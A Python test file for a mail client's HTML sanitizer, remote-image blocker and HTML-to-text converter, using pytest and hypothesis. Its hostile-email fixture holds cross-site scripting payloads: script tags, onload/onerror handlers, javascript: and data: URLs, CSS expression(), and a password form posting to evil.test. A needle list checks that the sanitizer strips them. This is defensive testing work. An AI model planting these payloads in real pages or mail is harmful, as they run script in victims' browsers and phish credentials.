"""HTML: sanitizing hostile mail, hiding remote images, reading HTML as text."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from keyou.mail.parse import block_remote_images, html_to_text, sanitize_html

HOSTILE = """<html><head><title>Win</title><style>p{color:red}</style>
<script>alert("head")</script><link rel="stylesheet" href="https://evil.test/x.css"></head>
<body onload="steal()"><p onclick="x()" style="color: red; position: fixed; behavior: url(x.htc)">Hi</p>
<a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt:alert(1)">again</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
<a href="https://example.com/?a=1&amp;b=2">safe link</a>
<img src="https://t.example.com/p.gif" onerror="alert(2)"><img src="cid:logo@x">
<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">
<form action="https://evil.test"><input type="password" name="p"><button>Go</button></form>
<iframe src="https://evil.test/frame">frame text</iframe><object data="x.swf"></object>
<svg><script>alert(3)</script></svg><math><mi>x</mi></math>
<table background="javascript:alert(4)" style="background: url(javascript:alert(5)); width: 100%">
<tr><td bgcolor="#eeeeee" style="background-image: url('https://t.example.com/bg.png')">cell</td></tr></table>
<div style="width: expression(alert(6))">ie</div>
</body></html>"""

# Timing is the business of the dedicated test; a loaded CI machine must not fail these.
NO_DEADLINE = settings(deadline=None)


def test_sanitize_html_removes_everything_that_runs():
    clean = sanitize_html(HOSTILE).lower()
    for needle in ("<script", "alert(", "onload", "onclick", "onerror", "javascript:", "<form",
                   "<input", "<iframe", "<object", "<link", "<style", "position", "behavior",
                   "expression", "data:text/html", "data:image/svg", "<title"):  # fmt: skip
        assert needle not in clean, needle


def test_sanitize_html_keeps_what_mail_needs():
    clean = sanitize_html(HOSTILE)
    assert "<table" in clean and "<td" in clean and 'bgcolor="#eeeeee"' in clean
    assert 'src="https://t.example.com/p.gif"' in clean  # blocked later, at display time
    assert 'src="cid:logo@x"' in clean
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in clean
    assert "color:red" in clean.replace(" ", "")
    assert 'href="https://example.com/?a=1&amp;b=2"' in clean
    assert 'rel="noopener noreferrer"' in clean
    assert "url('https://t.example.com/bg.png')" in clean or "url(&quot;" in clean


def test_block_remote_images():
    html = sanitize_html(
        '<p style="background: url(https://t.example.com/bg.png) no-repeat">x</p>'
        '<img alt="a" src="https://t.example.com/p.gif?u=1&amp;v=2">'
        '<img src="http://old.example.com/logo.png"><img src="//cdn.example.com/x.png">'
        '<img src="cid:logo@x"><img src="data:image/gif;base64,R0lGODlh">'
        '<table background="https://t.example.com/tile.png"><tr><td>t</td></tr></table>'
    )
    blocked, count = block_remote_images(html)
    assert count == 5
    assert not re.search(r'\ssrc="(https?:)?//', blocked)
    assert 'data-keyou-src="https://t.example.com/p.gif?u=1&amp;v=2"' in blocked
    assert 'data-keyou-src="https://cdn.example.com/x.png"' in blocked
    assert 'data-keyou-background="https://t.example.com/tile.png"' in blocked
    assert "url(https://t.example.com/bg.png)" not in blocked.split("data-keyou-style")[0]
    assert 'src="cid:logo@x"' in blocked and 'src="data:image/gif;base64,R0lGODlh"' in blocked


def test_block_remote_images_leaves_clean_html_alone():
    html = '<p>Hello <img src="cid:a@b"></p>'
    assert block_remote_images(html) == (html, 0)


def test_html_to_text():
    html = """<html><head><title>T</title><style>p {color: red}</style></head><body>
    <script>var x = "<p>not text</p>";</script>
    <p>Hello&nbsp;<b>world</b> &amp; friends</p><p>Second&#32;paragraph<br>new line</p>
    <ul><li>one</li><li>two</li></ul>
    <div>On Mon, Bob wrote:</div><blockquote>quoted <b>text</b><blockquote>deeper</blockquote></blockquote>
    <table><tr><td>Total:</td><td>USD 5</td></tr></table><!-- a comment -->
    </body></html>"""
    assert html_to_text(html) == (
        "Hello world & friends\n\nSecond paragraph\nnew line\n\n- one\n- two\n\n"
        "On Mon, Bob wrote:\n\n> quoted text\n>\n> > deeper\n\nTotal: USD 5"
    )


def test_html_to_text_keeps_preformatted_text():
    assert html_to_text("<pre>a  b\n  c</pre>") == "a  b\n  c"


@NO_DEADLINE
@given(st.text(max_size=300))
def test_html_functions_never_raise(text):
    assert isinstance(sanitize_html(text), str)
    assert isinstance(html_to_text(text), str)
    blocked, count = block_remote_images(text)
    assert isinstance(blocked, str) and count >= 0


@NO_DEADLINE
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "<p>",
                "</p>",
                "<img src='",
                "http://x",
                '"',
                "'",
                "<!--",
                "-->",
                "<script>",
                "</script>",
                "&amp;",
                "a",
                " ",
            ]
        )
    )
)
def test_html_tag_soup_never_raises(pieces):  # fmt: skip
    text = "".join(pieces)
    clean = sanitize_html(text)
    assert "<script" not in clean
    html_to_text(text)
    block_remote_images(text)
